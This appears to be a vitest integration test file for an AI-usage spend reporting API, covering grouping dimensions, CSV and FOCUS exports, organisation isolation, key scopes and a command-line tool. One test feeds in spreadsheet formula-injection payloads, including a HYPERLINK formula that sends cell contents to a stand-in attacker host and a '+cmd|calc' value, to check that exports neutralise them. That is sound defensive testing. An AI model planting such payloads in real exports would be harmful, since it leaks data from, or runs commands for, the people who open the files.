import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openRouterDelivery } from '../fixtures/openrouter.js';
import { manyTracesBody } from '../fixtures/otlp-json.js';
import { post } from '../support/http.js';
import { ledgerCli, ledgerCliIntoClosedPipe } from '../support/cli.js';
import { createTestLedger, startTestServer, type TestLedger, type TestServer } from '../support/test-server.js';

let ledger: TestLedger;
let server: TestServer;
let readKey: string;
let otherReadKey: string;
let ingestKey: string;

const DIMS = ['day', 'week', 'month', 'model', 'provider', 'user', 'session', 'api_key', 'meta.cost_center'] as const;
/** The same grouping, written independently against the `generations` view. */
const VIEW_EXPR: Record<(typeof DIMS)[number], string> = {
  day: `to_char(started_at AT TIME ZONE 'UTC', 'YYYY-MM-DD')`,
  week: `to_char(date_trunc('week', started_at AT TIME ZONE 'UTC'), 'YYYY-MM-DD')`,
  month: `to_char(started_at AT TIME ZONE 'UTC', 'YYYY-MM')`,
  model: 'model',
  provider: 'provider',
  user: 'user_id',
  session: 'session_id',
  api_key: 'api_key_name',
  'meta.cost_center': `metadata->>'cost_center'`,
};
const FROM = '2026-10-01';
const TO = '2026-11-20';

beforeAll(async () => {
  ledger = await createTestLedger();
  server = await startTestServer({}, ledger);
  ({ key: ingestKey } = await server.key('acme'));
  ({ key: readKey } = await server.key('acme', 'read'));
  const { key: otherIngest } = await server.key('globex');
  ({ key: otherReadKey } = await server.key('globex', 'read'));
  const models = ['anthropic/claude-haiku-4.5', 'openai/gpt-4o', 'deepseek/deepseek-v4-flash'];
  const costs = [0.016458, 0.0036047, 0.06507625, 0.00006958, 1.4e-7, 0.1];
  for (let i = 0; i < 60; i++) {
    const model = models[i % 3]!;
    const day = 1 + ((i * 7) % 45);
    const start = new Date(Date.UTC(2026, 9, day, (i * 5) % 24, i % 60)).toISOString();
    const priced = i % 10 !== 3;
    const delivery = openRouterDelivery({
      generationId: `gen-report-${i}`, model, author: model.split('/')[0], start,
      inputTokens: 100 + i, outputTokens: 10 + i, cachedTokens: i % 4 === 0 ? 50 : 0, reasoningTokens: i % 5,
      totalCost: priced ? costs[i % costs.length] : undefined,
      userId: i % 7 === 0 ? undefined : `user-${i % 4}`, sessionId: `s-${i % 6}`, apiKeyName: i % 2 ? 'Prod' : 'Staging',
      metadata: i % 3 === 0 ? { department: 'eng' } : { cost_center: `CC-${i % 3}`, department: 'sales' },
      error: i % 11 === 0 ? 'Provider returned error' : undefined,
    });
    expect((await post(server.url, delivery, { key: ingestKey })).status).toBe(200);
  }
  // Another organisation's spend must never show up in acme's reports.
  await post(server.url, openRouterDelivery({ generationId: 'gen-globex-1', inputTokens: 5, outputTokens: 5, totalCost: 99, start: '2026-10-15T00:00:00Z' }), { key: otherIngest });
});
afterAll(async () => {
  await server.stop();
  await ledger.drop();
});

async function spend(query: string, key = readKey) {
  return fetch(`${server.url}/developer/v1/ai-usage/spend?${query}`, { headers: { authorization: `Bearer ${key}` } });
}

type Row = Record<string, string | null>;

async function expected(by: readonly (typeof DIMS)[number][]): Promise<Row[]> {
  const groups = by.map((d, i) => `${VIEW_EXPR[d]} AS g${i}`);
  const rows = await server.query<Row>(`
    SELECT ${[...groups, 'count(*)::text AS requests'].join(', ')},
      count(*) FILTER (WHERE status = 'error')::text AS errors,
      count(*) FILTER (WHERE cost_usd IS NULL AND total_tokens > 0)::text AS unpriced,
      sum(input_tokens)::text AS input_tokens, sum(output_tokens)::text AS output_tokens,
      sum(cached_input_tokens)::text AS cached_input_tokens, sum(reasoning_tokens)::text AS reasoning_tokens,
      trim_scale(sum(cost_usd))::text AS cost_usd
    FROM generations WHERE org = 'acme' AND started_at >= '${FROM}' AND started_at < '${TO}'::date + 1
    ${by.length ? `GROUP BY ${by.map((_, i) => i + 1).join(', ')}` : ''}`);
  return rows
    .map((r) => {
      const out: Row = {};
      by.forEach((d, i) => (out[d] = r[`g${i}`] ?? null));
      for (const k of ['requests', 'errors', 'unpriced', 'input_tokens', 'output_tokens', 'cached_input_tokens', 'reasoning_tokens', 'cost_usd']) out[k] = r[k] ?? null;
      return out;
    })
    .sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b)));
}

const sorted = (rows: Row[]) => [...rows].sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b)));

describe('GET /developer/v1/ai-usage/spend', () => {
  const combos: (typeof DIMS)[number][][] = [[]];
  DIMS.forEach((a, i) => {
    combos.push([a]);
    DIMS.slice(i + 1).forEach((b) => combos.push([a, b]));
  });
  combos.push(['month', 'model', 'meta.cost_center'], ['day', 'provider', 'user', 'api_key']);

  it('every one of the 512 combinations of the nine dimensions agrees with the generations view', async () => {
    const [all] = await expected([]);
    for (let mask = 0; mask < 2 ** DIMS.length; mask++) {
      const by = DIMS.filter((_, i) => mask & (1 << i));
      const report = (await (await spend(`from=${FROM}&to=${TO}&by=${by.join(',')}`)).json()) as { rows: Row[]; totals: Row };
      expect(sorted(report.rows), by.join(',')).toEqual(await expected(by));
      expect(report.totals, by.join(',')).toEqual(all);
    }
  });

  it.each(combos.map((c) => [c.join(',') || '(none)', c] as const))('--by %s (in this order) agrees with the generations view, exactly', async (_name, by) => {
    const res = await spend(`from=${FROM}&to=${TO}&by=${by.join(',')}`);
    expect(res.status).toBe(200);
    const report = (await res.json()) as { rows: Row[]; totals: Row; org: string };
    expect(report.org).toBe('acme');
    expect(sorted(report.rows)).toEqual(await expected(by));
    const [all] = await expected([]);
    expect(report.totals).toEqual(all);
  });

  it('CSV holds the same figures as JSON', async () => {
    const json = (await (await spend(`from=${FROM}&to=${TO}&by=day,model`)).json()) as { rows: Row[] };
    const csvRes = await spend(`from=${FROM}&to=${TO}&by=day,model&format=csv`);
    expect(csvRes.headers.get('content-type')).toMatch(/^text\/csv/);
    const csv = parse(await csvRes.text(), { columns: true }) as Row[];
    expect(csv.map((r) => ({ ...r, cost_usd: r.cost_usd || null }))).toEqual(json.rows);
  });

  it('by may be repeated: by=day&by=model is by=day,model', async () => {
    const repeated = await spend(`from=${FROM}&to=${TO}&by=day&by=model,user`);
    expect(repeated.status).toBe(200);
    expect(await repeated.json()).toEqual(await (await spend(`from=${FROM}&to=${TO}&by=day,model,user`)).json());
  });

  it('400 naming the parameter for invalid input', async () => {
    for (const [q, param] of [['by=colour', 'by'], ['from=yesterday', 'from'], ['last=5y', 'last'], ['format=xml', 'format'], ['from=2026-11-02&to=2026-11-01', 'from'], ['last=7d&from=2026-11-01', 'last'], ['from=2026-02-30', 'from'], ['form=2026-11-01', 'form'], ['from=2026-10-01&from=2026-10-02', 'from'], ['format=csv&format=json', 'format'], ['org=acme&org=acme', 'org']]) {
      const res = await spend(q!);
      expect(res.status, q).toBe(400);
      expect(((await res.json()) as { message: string }).message).toMatch(new RegExp(`^${param}:`));
    }
  });

  it('export refuses a parameter it does not take; another method on a read path is 405, not 404', async () => {
    const auth = { authorization: `Bearer ${readKey}` };
    const res = await fetch(`${server.url}/developer/v1/ai-usage/export?format=csv&by=model`, { headers: auth });
    expect(res.status).toBe(400);
    expect(((await res.json()) as { message: string }).message).toBe('by: unknown parameter (use from, to, last, format, org)');
    for (const path of ['spend', 'export']) {
      const posted = await fetch(`${server.url}/developer/v1/ai-usage/${path}`, { method: 'POST', headers: auth });
      expect(posted.status, path).toBe(405);
      expect(posted.headers.get('allow'), path).toBe('GET, HEAD');
    }
  });

  it('sees only its own organisation; scopes are enforced both ways', async () => {
    const globex = (await (await spend(`from=${FROM}&to=${TO}`, otherReadKey)).json()) as { org: string; totals: Row };
    expect(globex).toMatchObject({ org: 'globex', totals: { requests: '1', cost_usd: '99' } });
    expect((await spend(`from=${FROM}&to=${TO}&org=globex`)).status).toBe(403);
    expect((await spend(`from=${FROM}&to=${TO}`, ingestKey)).status).toBe(403);
    expect((await spend(`from=${FROM}&to=${TO}`, 'asl_nope')).status).toBe(401);
    const ingestWithRead = await post(server.url, openRouterDelivery({ generationId: 'gen-read-key', inputTokens: 1, outputTokens: 1 }), { key: readKey });
    expect(ingestWithRead.status).toBe(403);
    const exportWithIngest = await fetch(`${server.url}/developer/v1/ai-usage/export?format=csv`, { headers: { authorization: `Bearer ${ingestKey}` } });
    expect(exportWithIngest.status).toBe(403);
  });
});

describe('exports', () => {
  it('CSV: one row per generation, the same money as the report', async () => {
    const res = await fetch(`${server.url}/developer/v1/ai-usage/export?format=csv&from=${FROM}&to=${TO}`, { headers: { authorization: `Bearer ${readKey}` } });
    expect(res.status).toBe(200);
    const rows = parse(await res.text(), { columns: true }) as Row[];
    const [all] = await expected([]);
    expect(String(rows.length)).toBe(all!.requests);
    expect(new Set(rows.map((r) => r.org))).toEqual(new Set(['acme']));
    const cents = rows.reduce((s, r) => s + (r.cost_usd ? BigInt(Math.round(Number(r.cost_usd) * 1e10)) : 0n), 0n);
    expect(Number(cents) / 1e10).toBeCloseTo(Number(all!.cost_usd), 9);
    expect(JSON.parse(rows[0]!.metadata!)).toHaveProperty('department');
  });

  it('a long export does not hold up deliveries: one sent while it streams is stored before it ends', async () => {
    const { key: bulkIngest } = await server.key('bulk');
    const { key: bulkRead } = await server.key('bulk', 'read');
    expect((await post(server.url, manyTracesBody('gen-bulk', 20_000), { key: bulkIngest })).status).toBe(200);
    const res = await fetch(`${server.url}/developer/v1/ai-usage/export?format=csv&from=2025-01-01&to=2026-12-31`, { headers: { authorization: `Bearer ${bulkRead}` } });
    const reader = res.body!.getReader();
    let exportEnded = false;
    const rest = (async () => {
      let bytes = 0;
      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) bytes += chunk.value.length;
      exportEnded = true;
      return bytes;
    })();
    const sent = await post(server.url, openRouterDelivery({ generationId: 'gen-during-export', inputTokens: 1, outputTokens: 1, totalCost: 0.01 }), { key: bulkIngest });
    expect(sent.status).toBe(200);
    // On PGlite, whose one session the export takes page after page, the delivery waited for it to end.
    expect(exportEnded).toBe(false);
    expect(await rest).toBeGreaterThan(20_000 * 100);
  });

  it('FOCUS 1.2: every Mandatory column, valid values, costs equal to the report', async () => {
    const res = await fetch(`${server.url}/developer/v1/ai-usage/export?format=focus&from=${FROM}&to=${TO}`, { headers: { authorization: `Bearer ${readKey}` } });
    const rows = parse(await res.text(), { columns: true }) as Row[];
    const mandatory = ['BilledCost', 'BillingAccountId', 'BillingAccountName', 'BillingCurrency', 'BillingPeriodEnd', 'BillingPeriodStart', 'ChargeCategory', 'ChargeClass', 'ChargeDescription', 'ChargePeriodEnd', 'ChargePeriodStart', 'ContractedCost', 'EffectiveCost', 'InvoiceIssuerName', 'ListCost', 'PricingQuantity', 'PricingUnit', 'ProviderName', 'PublisherName', 'ServiceCategory', 'ServiceName'];
    const byDayModel = await expected(['day', 'model', 'provider']);
    expect(rows).toHaveLength(byDayModel.length);
    const iso = /^\d{4}-\d{2}-\d{2}T00:00:00Z$/;
    for (const r of rows) {
      for (const c of mandatory) expect(r, c).toHaveProperty(c);
      expect(r.BilledCost).toMatch(/^\d+(\.\d+)?$/);
      expect(r.EffectiveCost).toBe(r.BilledCost);
      expect(r.BillingCurrency).toBe('USD');
      expect(r.ChargeCategory).toBe('Usage');
      expect(r.ChargeClass).toBe('');
      for (const c of ['BillingPeriodStart', 'BillingPeriodEnd', 'ChargePeriodStart', 'ChargePeriodEnd']) expect(r[c]).toMatch(iso);
      expect(Date.parse(r.ChargePeriodEnd!) - Date.parse(r.ChargePeriodStart!)).toBe(86_400_000);
      expect(r.ServiceCategory).toBe('AI and Machine Learning');
      expect(r.ConsumedUnit).toBe('Tokens');
      expect(typeof JSON.parse(r.Tags!)).toBe('object');
      const match = byDayModel.find((e) => e.day === r.ChargePeriodStart!.slice(0, 10) && e.model === r.ServiceName && e.provider === r.PublisherName)!;
      expect(r.BilledCost).toBe(match.cost_usd ?? '0');
      expect(r.x_Requests).toBe(match.requests);
    }
    // Tags carry metadata shared by every generation of the row.
    expect(rows.some((r) => JSON.parse(r.Tags!).department)).toBe(true);
  });

  it('FOCUS over a window that starts and ends mid-day holds that window exactly, day by day in order', async () => {
    const [from, to] = ['2026-10-05T13:00:00Z', '2026-10-29T07:30:00Z'];
    const res = await fetch(`${server.url}/developer/v1/ai-usage/export?format=focus&from=${from}&to=${to}`, { headers: { authorization: `Bearer ${readKey}` } });
    const rows = parse(await res.text(), { columns: true }) as Row[];
    const inWindow = await server.query<{ day: string; n: string }>(
      `SELECT to_char(started_at AT TIME ZONE 'UTC', 'YYYY-MM-DD') AS day, count(*)::text AS n
       FROM generations WHERE org = 'acme' AND started_at >= '${from}' AND started_at < '${to}' GROUP BY 1 ORDER BY 1`,
    );
    const days = rows.map((r) => r.ChargePeriodStart!.slice(0, 10));
    expect([...new Set(days)]).toEqual(inWindow.map((d) => d.day));
    for (const { day, n } of inWindow) {
      expect(String(rows.filter((r) => r.ChargePeriodStart!.startsWith(day)).reduce((sum, r) => sum + Number(r.x_Requests), 0)), day).toBe(n);
    }
    expect(days).toEqual([...days].sort());
  });

  it('text a sender chose cannot become a spreadsheet formula in CSV; numbers, JSON and the view stay as sent', async () => {
    const { key: ingest } = await server.key('sheets');
    const { key: read } = await server.key('sheets', 'read');
    const sent = {
      userId: '=HYPERLINK("https://evil.example/?"&A1,"open")', model: '@SUM(A1:A9)', author: '+cmd|calc', sessionId: '-2+3',
      apiKeyName: '\t=1', traceName: '\uFF1D1+1', metadata: { cost_center: '=1+2' },
    };
    const delivery = openRouterDelivery({ generationId: 'gen-sheets', inputTokens: 1, outputTokens: 1, totalCost: -0.0125, start: '2026-10-10T10:00:00Z', ...sent });
    expect((await post(server.url, delivery, { key: ingest })).status).toBe(200);
    const get = async (path: string) => parse(await (await fetch(`${server.url}/developer/v1/ai-usage/${path}&from=2026-10-01&to=2026-10-31`, { headers: { authorization: `Bearer ${read}` } })).text(), { columns: true }) as Row[];
    const quoted = (v: string) => `'${v}`;

    const [report] = await get('spend?format=csv&by=user,model,session,meta.cost_center');
    expect(report).toMatchObject({ user: quoted(sent.userId), model: quoted(sent.model), session: quoted(sent.sessionId), 'meta.cost_center': "'=1+2", cost_usd: '-0.0125' });
    const [row] = await get('export?format=csv');
    expect(row).toMatchObject({
      user_id: quoted(sent.userId), model: quoted(sent.model), provider: quoted(sent.author), session_id: quoted(sent.sessionId),
      api_key_name: quoted(sent.apiKeyName), trace_name: quoted(sent.traceName), cost_usd: '-0.0125', generation_id: 'gen-sheets',
    });
    expect(JSON.parse(row!.metadata!)).toMatchObject(sent.metadata);
    const [focus] = await get('export?format=focus');
    expect(focus).toMatchObject({ ServiceName: quoted(sent.model), SkuId: quoted(sent.model), PublisherName: quoted(sent.author), BilledCost: '-0.0125' });

    const json = (await (await fetch(`${server.url}/developer/v1/ai-usage/spend?from=2026-10-01&to=2026-10-31&by=user`, { headers: { authorization: `Bearer ${read}` } })).json()) as { rows: Row[] };
    expect(json.rows[0]!.user).toBe(sent.userId);
    const [view] = await server.query<Row>(`SELECT user_id, model, api_key_name FROM generations WHERE org = 'sheets'`);
    expect(view).toEqual({ user_id: sent.userId, model: sent.model, api_key_name: sent.apiKeyName });
  });

  it('ledger report and ledger export on the command line give the same figures', async () => {
    const json = await ledgerCli(['report', '--org', 'acme', '--from', FROM, '--to', TO, '--by', 'model', '--format', 'json'], ledger.env);
    expect(json.stderr).toBe('');
    const report = JSON.parse(json.stdout) as { rows: Row[]; totals: Row };
    expect(sorted(report.rows)).toEqual(await expected(['model']));
    const repeated = await ledgerCli(['report', '--org', 'acme', '--from', FROM, '--to', TO, '--by', 'day', '--by', 'model', '--format', 'json'], ledger.env);
    expect(sorted((JSON.parse(repeated.stdout) as { rows: Row[] }).rows)).toEqual(await expected(['day', 'model']));
    const table = await ledgerCli(['report', '--org', 'acme', '--from', FROM, '--to', TO, '--by', 'model'], ledger.env);
    expect(table.stdout).toContain('TOTAL');
    expect(table.stdout).toContain(report.totals.cost_usd!);
    const focus = await ledgerCli(['export', '--format', 'focus', '--org', 'acme', '--from', FROM, '--to', TO], ledger.env);
    expect(focus.code).toBe(0);
    expect(focus.stdout.split('\n')[0]).toMatch(/^BilledCost,BillingAccountId,/);
    const bad = await ledgerCli(['report', '--org', 'acme', '--by', 'colour'], ledger.env);
    expect(bad).toMatchObject({ code: 64 });
    expect(bad.stderr).toMatch(/^--by: unknown dimension "colour"/);
  });

  it('piped into a reader that stops early (| head), report and export stop quietly', async () => {
    for (const args of [['export', '--format', 'csv'], ['report', '--by', 'day']]) {
      const result = await ledgerCliIntoClosedPipe([...args, '--org', 'acme', '--from', FROM, '--to', TO], ledger.env);
      expect(result, args[0]).toEqual({ code: 0, stderr: '' });
    }
  });
});
